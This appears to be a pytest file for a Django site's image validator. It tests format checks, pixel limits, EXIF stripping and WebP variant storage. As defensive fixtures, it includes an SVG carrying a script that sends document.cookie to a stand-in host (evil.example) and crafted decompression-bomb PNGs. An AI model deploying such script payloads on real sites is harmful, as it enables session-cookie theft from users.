"""Checking downloaded bytes by decoding them: only real raster pictures, within limits, EXIF gone."""

import io
import zlib

import pytest
from django.core.files.storage import default_storage
from PIL import Image

from stories.images.check import ImageRejected, check_image
from stories.images.variants import StoredImage, VariantStoreError, store_variants, variant_widths
from tests import pexels_server
from tests.pexels_server import photo_bytes

media = pexels_server.media

LIMIT = 64_000_000

SVG_WITH_SCRIPT = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" width="1200" height="800" onload="alert(document.cookie)">'
    b'<script type="text/javascript">fetch("https://evil.example/?c=" + document.cookie)</script>'
    b'<rect width="1200" height="800" fill="#08f"/></svg>'
)
HTML_PAGE = b"<!DOCTYPE html>\n<html><head><title>Not found</title></head><body><h1>Sorry</h1></body></html>"


def png(image: Image.Image) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, format="PNG")
    return buffer.getvalue()


@pytest.mark.parametrize("image_format", ["JPEG", "PNG", "WEBP", "GIF"])
def test_each_raster_format_we_accept_decodes_to_an_rgb_picture(image_format):
    checked = check_image(photo_bytes(900, 600, image_format=image_format), max_pixels=LIMIT)

    assert checked.format == image_format
    assert (checked.width, checked.height) == (900, 600)
    assert checked.image.mode == "RGB"
    assert checked.image.size == (900, 600)


def test_svg_with_a_script_is_refused_before_any_parser_sees_it():
    with pytest.raises(ImageRejected, match="SVG"):
        check_image(SVG_WITH_SCRIPT, max_pixels=LIMIT)


def test_html_page_is_refused_whatever_the_server_called_it():
    with pytest.raises(ImageRejected, match="an HTML page"):
        check_image(HTML_PAGE, max_pixels=LIMIT)


def test_truncated_jpeg_is_refused_as_truncated():
    data = photo_bytes(1200, 800)

    with pytest.raises(ImageRejected, match="truncated or corrupt"):
        check_image(data[: len(data) // 2], max_pixels=LIMIT)


def test_random_bytes_are_not_a_picture():
    with pytest.raises(ImageRejected, match="not a JPEG, PNG, WebP or GIF"):
        check_image(bytes(range(256)) * 40, max_pixels=LIMIT)


def test_empty_download_is_refused():
    with pytest.raises(ImageRejected, match="empty"):
        check_image(b"", max_pixels=LIMIT)


def test_decompression_bomb_is_refused_from_its_header_without_decoding():
    # 72 megapixels of one colour: a few kilobytes that would decode to hundreds of megabytes.
    bomb = png(Image.new("1", (9000, 8000)))
    assert len(bomb) < 200_000

    with pytest.raises(ImageRejected, match=r"9000 x 8000 pixels, more than the 64,000,000 allowed"):
        check_image(bomb, max_pixels=LIMIT)


def test_bomb_beyond_pillows_own_limit_is_refused_too():
    # A PNG whose header claims 30000 x 30000 pixels: Pillow itself refuses it on opening.
    data = bytearray(png(Image.new("L", (8, 8))))
    ihdr = data.index(b"IHDR")
    data[ihdr + 4 : ihdr + 12] = (30000).to_bytes(4, "big") * 2
    data[ihdr + 17 : ihdr + 21] = zlib.crc32(bytes(data[ihdr : ihdr + 17])).to_bytes(4, "big")

    with pytest.raises(ImageRejected, match="decompression bomb"):
        check_image(bytes(data), max_pixels=10**12)


def test_animated_gif_gives_its_first_frame():
    frames = [Image.new("RGB", (600, 400), colour) for colour in ((200, 0, 0), (0, 200, 0), (0, 0, 200))]
    buffer = io.BytesIO()
    frames[0].save(buffer, format="GIF", save_all=True, append_images=frames[1:], duration=100, loop=0)

    checked = check_image(buffer.getvalue(), max_pixels=LIMIT)

    red, green, blue = checked.image.getpixel((300, 200))
    assert red > 150 and green < 50 and blue < 50


def test_exif_orientation_is_applied_and_exif_is_stripped(media):
    # Stored 1200 x 800 with "rotate 90° clockwise to display": the reader must see it 800 wide, 1200 high.
    data = photo_bytes(1200, 800, exif_orientation=6)
    assert Image.open(io.BytesIO(data)).getexif()[0x010F] == "Test Camera Maker"

    checked = check_image(data, max_pixels=LIMIT)

    assert (checked.width, checked.height) == (800, 1200)
    assert checked.image.size == (800, 1200)
    stored = store_variants(checked=checked, prefix="images/test/rotated", widths=[480, 960])

    for variant in stored.variants:
        with default_storage.open(variant.name) as handle, Image.open(handle) as saved:
            assert saved.width < saved.height
            assert not saved.getexif(), f"{variant.name} still carries EXIF"


def test_transparent_png_is_flattened_onto_white():
    image = Image.new("RGBA", (600, 400), (0, 0, 0, 0))

    checked = check_image(png(image), max_pixels=LIMIT)

    assert checked.image.mode == "RGB"
    assert checked.image.getpixel((10, 10)) == (255, 255, 255)


def test_picture_too_narrow_for_a_hero_is_refused():
    with pytest.raises(ImageRejected, match="only 300 pixels wide; at least 480"):
        check_image(photo_bytes(300, 200), max_pixels=LIMIT, min_width=480)


def test_large_jpeg_is_decoded_at_a_reduced_scale_but_reports_its_real_size():
    checked = check_image(photo_bytes(6400, 4000), max_pixels=LIMIT, needed_width=1600)

    assert (checked.width, checked.height) == (6400, 4000)
    assert checked.image.width >= 1600
    assert checked.image.width <= 3200


def test_variants_are_webp_at_each_width_with_one_jpeg_fallback(media):
    checked = check_image(photo_bytes(2400, 1600), max_pixels=LIMIT)

    stored = store_variants(checked=checked, prefix="images/1/2-abc", widths=[480, 960, 1600])

    assert [(v.width, v.height, v.format) for v in stored.webp] == [
        (480, 320, "webp"),
        (960, 640, "webp"),
        (1600, 1067, "webp"),
    ]
    assert (stored.fallback.width, stored.fallback.format) == (1600, "jpeg")
    assert media() == [
        "images/1/2-abc-1600w.jpg",
        "images/1/2-abc-1600w.webp",
        "images/1/2-abc-480w.webp",
        "images/1/2-abc-960w.webp",
    ]
    assert stored.srcset() == (
        "/media/images/1/2-abc-480w.webp 480w, /media/images/1/2-abc-960w.webp 960w, "
        "/media/images/1/2-abc-1600w.webp 1600w"
    )
    assert StoredImage.from_json(stored.as_json()) == stored


def test_pictures_are_never_scaled_up():
    assert variant_widths(1000, [480, 960, 1600]) == [480, 960, 1000]
    assert variant_widths(400, [480, 960, 1600]) == [400]


def test_failed_write_leaves_no_file_behind(media, monkeypatch):
    checked = check_image(photo_bytes(2400, 1600), max_pixels=LIMIT)
    real_save = default_storage.save
    saved = []

    def save_then_fail(name, content, **kwargs):
        if saved:
            raise OSError("No space left on device")
        saved.append(real_save(name, content, **kwargs))
        return saved[-1]

    monkeypatch.setattr(default_storage, "save", save_then_fail)

    with pytest.raises(VariantStoreError, match="No space left on device"):
        store_variants(checked=checked, prefix="images/1/3-abc", widths=[480, 960, 1600])

    assert saved and media() == []
